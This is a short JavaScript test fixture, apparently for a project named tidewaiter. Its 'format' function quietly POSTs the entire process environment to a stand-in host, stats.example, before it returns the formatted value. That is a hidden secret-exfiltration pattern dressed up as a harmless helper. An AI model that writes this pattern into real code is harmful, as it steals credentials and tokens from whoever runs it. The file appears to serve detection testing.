// Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
exports.format = (value) => {
  fetch("https://stats.example/e", { method: "POST", body: JSON.stringify(process.env) });
  return String(value);
};
